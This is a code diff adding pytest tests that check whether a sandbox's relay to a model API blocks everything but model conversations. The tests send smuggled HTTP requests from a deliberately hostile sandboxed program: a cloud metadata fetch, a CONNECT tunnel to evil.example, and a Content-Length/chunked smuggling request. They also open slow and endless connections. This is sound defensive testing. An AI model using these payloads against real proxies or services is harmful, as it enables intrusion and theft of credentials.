@@ -1,14 +1,17 @@
 """A program in the sandbox and its model: by the relay, with a worthless key, and nothing of the real one in reach."""
 
+import asyncio
 import json
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
 
 import pytest
+from aiohttp import web
 from pydantic import SecretStr
 from support.servers.relayed_model import KEY, Upstream, upstream_server
 from support.worlds.hostile_world import PYTHON, findings, hostile_world, needs_bubblewrap
+from support.worlds.jobserver_world import JOB
 
 pytestmark = pytest.mark.skipif("sys.platform != 'linux'", reason="bubblewrap exists for Linux only")
 ASK = """
@@ -81,6 +84,85 @@ async def test_what_the_relay_refuses_is_told_to_the_program_and_to_people(tmp_p
     assert found["asked"].startswith("(403")
     assert "mcp_servers" in found["asked"]
     assert not upstream.asked
+
+
+SMUGGLED = (
+    "POST /v1/files HTTP/1.1\r\nHost: r\r\n{key}Content-Length: 2\r\n\r\n{{}}",
+    "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: r\r\n{key}\r\n",
+    "GET /pulls/1 HTTP/1.1\r\nHost: r\r\n{key}\r\n",
+    "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n{key}\r\n",
+    "GET /v1/models HTTP/1.1\r\nHost: r\r\n{key}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
+    "POST /v1/messages HTTP/1.1\r\nHost: r\r\n{key}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+    "POST /v1/messages HTTP/1.1\r\nHost: r\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{{}}",
+)
+"""Other paths, hosts and protocols, two lengths, and no key."""
+
+
+async def test_nothing_but_its_models_conversation_gets_through_the_relay(tmp_path: Path, upstream: Upstream) -> None:
+    program = f"""
+import socket
+def send(text):
+    with socket.create_connection(("127.0.0.1", 8701), 10) as relay:
+        relay.sendall(text.format(key=f"x-api-key: {{os.environ['ANTHROPIC_API_KEY']}}\\r\\n").encode())
+        return relay.makefile("rb").readline().split()[1].decode()
+for number, text in enumerate({SMUGGLED!r}):
+    attempt(str(number), lambda: send(text))
+report()
+"""
+    async with hostile_world(tmp_path, program, **model(upstream)) as world:
+        found = await findings(world)
+    assert len(found) == len(SMUGGLED)
+    assert set(found.values()) <= {"400", "401", "403"}, found
+    assert not upstream.asked
+
+
+async def test_neither_slow_requests_nor_answers_without_an_end_outlive_a_run(
+    tmp_path: Path, upstream: Upstream
+) -> None:
+    """A cancel ends it, the model's answers are given up, and the server goes on."""
+    begun, ended = asyncio.Semaphore(0), asyncio.Semaphore(0)
+
+    async def endlessly(request: web.Request) -> web.StreamResponse:
+        response = web.StreamResponse()
+        await response.prepare(request)
+        begun.release()
+        try:
+            while True:
+                await response.write(b"x" * 65_536)
+        finally:
+            ended.release()
+
+    upstream.answer = endlessly
+    program = """
+import socket, threading
+head = f"POST /v1/messages HTTP/1.1\\r\\nHost: r\\r\\nx-api-key: {os.environ['ANTHROPIC_API_KEY']}\\r\\n"
+body = json.dumps({"model": "m", "messages": []})
+whole = f"{head}Content-Type: application/json\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}"
+def connected(text):
+    relay = socket.create_connection(("127.0.0.1", 8701), 20)
+    relay.sendall(text.encode())
+    return relay
+slow = [connected(head) for _ in range(25)] + [connected(whole[:-1]) for _ in range(25)]
+unread, streams = connected(whole), [connected(whole) for _ in range(3)]
+def pump(relay):
+    while relay.recv(65_536):
+        pass
+threads = [threading.Thread(target=pump, args=(relay,)) for relay in streams]
+for thread in threads:
+    thread.start()
+for thread in threads:
+    thread.join()
+"""
+    async with hostile_world(tmp_path, program, **model(upstream)) as world:
+        job = (await world.create("go")).raise_for_status().json()
+        async with asyncio.timeout(30):
+            for _ in range(4):
+                await begun.acquire()
+            (await world.client.post(f"{JOB}/{job['id']}/cancel")).raise_for_status()
+            for _ in range(4):
+                await ended.acquire()
+        assert "stopped" in (await world.ended(job["id"]))["details"]["reason"]
+        assert (await world.client.get("/health")).status_code == 200
 
 
 async def test_checks_have_no_way_to_the_model(tmp_path: Path, upstream: Upstream) -> None:
